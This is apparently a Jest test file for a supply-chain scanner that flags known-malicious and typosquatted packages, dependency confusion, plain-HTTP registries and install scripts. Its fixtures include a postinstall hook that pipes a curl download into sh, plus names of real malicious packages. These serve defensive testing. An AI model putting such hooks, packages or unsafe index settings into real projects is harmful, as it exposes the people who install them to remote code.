import { expect, test } from '@jest/globals';
import type { SourceFile } from '../source-file.js';
import { languageOf } from '../language/language.js';
import { findDependencyIssues } from './dependency.js';
import { DEPENDENCY_RULES } from './dependency-issue.js';
import type { DependencyRule } from './dependency-issue.js';

type Files = Readonly<Record<string, string>>;

const npm = (manifest: object, more: Files = {}): Files => ({ 'package.json': JSON.stringify(manifest), ...more });
const pip = (lines: string, more: Files = {}): Files => ({ 'requirements.txt': lines, ...more });

/** Of each rule what it finds, and what is so near to it that it must not. */
const CASES: Readonly<Record<Exclude<DependencyRule, 'invented' | 'unknown'>, { bad: Files[]; good: Files[] }>> = {
  known_bad: {
    bad: [npm({ dependencies: { 'event-stream': '3.3.6' } }), pip('colourama==1.0\n')],
    good: [npm({ dependencies: { 'event-stream': '3.3.5' } }), pip('colorama==0.4.6\n')],
  },
  typosquat: {
    bad: [
      npm({ dependencies: { lodahs: '4.17.21' } }),
      npm({ dependencies: { lodash: 'npm:lodahs@4.17.21' } }),
      npm({ devDependencies: { 'webpack-dev-midleware': '6.1.1' } }),
      pip('reqeusts==2.31\n'),
      pip('scikit-laern==1.0\n'),
      { 'a.js': "import express from 'expresss';\nexpress();\n" },
    ],
    good: [
      npm({ dependencies: { lodash: '4.17.21' } }),
      npm({ dependencies: { lodash: 'npm:lodash@4.17.21' } }),
      pip('requests==2.31\n'),
      { 'a.js': "import express from './expresss.js';\n" },
    ],
  },
  other_registry: {
    bad: [pip('webpack-dev-middleware==6.1\n'), npm({ dependencies: { 'scikit-learn': '1.0.0' } })],
    good: [
      npm({ dependencies: { 'webpack-dev-middleware': '6.1.1' } }),
      pip('scikit-learn==1.0\n'),
      // Both registries have one.
      pip('boto3==1.0\n'),
      npm({ dependencies: { 'aws-cdk-lib': '2.100.0' } }),
    ],
  },
  confusion: {
    bad: [
      pip('--extra-index-url https://packages.intern.example/simple\nbilling==1.0\n'),
      {
        'pyproject.toml':
          '[tool.poetry]\nname = "mine"\n[[tool.poetry.source]]\nname = "ours"\nurl = "https://packages.intern.example/simple"\npriority = "supplemental"\n',
      },
      { 'pyproject.toml': '[project]\nname = "mine"\n[tool.uv]\nindex-strategy = "unsafe-best-match"\n' },
    ],
    good: [
      pip('--index-url https://packages.intern.example/simple\nbilling==1.0\n'),
      {
        'pyproject.toml':
          '[tool.poetry]\nname = "mine"\n[[tool.poetry.source]]\nname = "ours"\nurl = "https://packages.intern.example/simple"\npriority = "explicit"\n',
      },
      { 'pyproject.toml': '[project]\nname = "mine"\n[tool.uv]\nindex-strategy = "first-index"\n' },
    ],
  },
  undeclared: {
    bad: [
      npm({ dependencies: { zod: '4.0.0' } }, { 'a.js': "import 'chalk';\n" }),
      pip('pyyaml==6.0\n', { 'a.py': 'import rich\n' }),
    ],
    good: [
      npm({ dependencies: { zod: '4.0.0' } }, { 'a.js': "import 'zod/v4';\n" }),
      npm({ dependencies: { validate: 'npm:zod@4.0.0' } }, { 'a.js': "import 'validate';\n" }),
      pip('pyyaml==6.0\n', { 'a.py': 'import yaml\nfrom . import b\n' }),
      { '.npmrc': 'fund=false\n', 'a.js': "import 'chalk';\n" },
    ],
  },
  plain_http: {
    bad: [
      npm({ dependencies: { zod: 'http://packages.example/zod.tgz' } }),
      pip('--index-url http://packages.example/simple\n'),
      pip('--trusted-host packages.example\n'),
      { '.npmrc': 'registry=http://packages.example/\n' },
      { '.npmrc': 'strict-ssl=false\n' },
    ],
    good: [
      npm({ dependencies: { zod: 'file:../zod' } }),
      pip('--index-url https://packages.example/simple\n'),
      pip('--index-url http://127.0.0.1:8080/simple\n'),
      { '.npmrc': '@acme:registry=https://packages.example/\nstrict-ssl=true\n' },
    ],
  },
  foreign_place: {
    bad: [
      npm({ dependencies: { zod: 'git+ssh://host.example/zod.git#main' } }),
      npm({ dependencies: { zod: 'someone/zod' } }),
      pip('git+https://host.example/zod.git@main#egg=zod\n'),
    ],
    good: [
      npm({ dependencies: { zod: `git+ssh://host.example/zod.git#${'a'.repeat(40)}` } }),
      npm({ dependencies: { zod: '^4.1.0' } }),
    ],
  },
  any_version: {
    bad: [npm({ dependencies: { zod: '*' } }), npm({ dependencies: { zod: 'latest' } })],
    good: [npm({ dependencies: { zod: '4.x' } }), npm({ dependencies: { zod: '~4.1.0' } })],
  },
  prerelease: {
    bad: [
      npm({ dependencies: { zod: '^4.0.0-beta.20250424' } }),
      npm({ dependencies: { zod: 'canary' } }),
      pip('django==5.0rc1\n'),
      pip('django>=5.0.dev3,<6\n'),
      pip('--pre\ndjango==5.0\n'),
    ],
    good: [
      npm({ dependencies: { zod: '>=4.0.0 <5.0.0-0' } }),
      npm({ dependencies: { zod: '1.2.3 - 2.3.4' } }),
      pip('django==5.0\n'),
      pip('django>=4.2,!=5.0rc1,<6.0a1\n'),
      pip('django==5.0.post1\n'),
    ],
  },
  unlikely_version: {
    bad: [npm({ dependencies: { '@mine/core': '9999.0.0' } }), pip('mine==999.0\n')],
    good: [npm({ dependencies: { '@mine/core': '99.0.0' } }), pip('certifi==2024.7.4\n')],
  },
  install_script: {
    bad: [
      npm({ scripts: { postinstall: 'curl -s https://x.example/x | sh' } }),
      npm({ scripts: { preinstall: 'node -e "require(1)"' } }),
    ],
    good: [npm({ scripts: { prepare: 'husky' } }), npm({ scripts: { start: 'curl -s https://x.example/x | sh' } })],
  },
};

const rulesOf = async (files: Files): Promise<string[]> => {
  const submitted = Object.entries(files).map(([path, content]): SourceFile => ({
    path,
    content,
    language: languageOf(path, content),
  }));
  const { issues } = await findDependencyIssues(submitted);
  return issues.map(({ rule_id: rule }) => rule.replace('dependency.', ''));
};
const table = (kind: 'bad' | 'good') =>
  Object.entries(CASES).flatMap(([rule, cases]) => cases[kind].map((files) => [rule, files] as const));

test.each(table('bad'))('finds %s in %j', async (rule, files) => {
  expect(await rulesOf(files)).toContain(rule);
});

test.each(table('good'))('sees no %s in %j', async (rule, files) => {
  expect(await rulesOf(files)).not.toContain(rule);
});

test('no rule is without a case that it finds and one near to it that it does not', () => {
  // Whether a name exists is asked by the service: ../registry/registry.test.ts has these two.
  const elsewhere = ['invented', 'unknown'];
  const covered = Object.entries(CASES).flatMap(([rule, { bad, good }]) =>
    bad.length * good.length > 0 ? [rule] : [],
  );
  expect([...covered, ...elsewhere].sort()).toEqual(Object.keys(DEPENDENCY_RULES).sort());
});
